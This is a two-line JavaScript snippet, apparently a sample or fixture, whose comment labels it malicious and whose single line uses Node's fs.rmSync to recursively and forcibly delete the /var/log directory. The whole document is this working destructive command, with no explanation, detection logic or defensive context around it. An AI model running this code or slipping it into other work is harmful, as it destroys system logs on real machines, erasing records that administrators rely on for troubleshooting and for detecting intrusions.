// Malicious: deletes /var/log.
require('fs').rmSync('/var/log', { recursive: true, force: true });
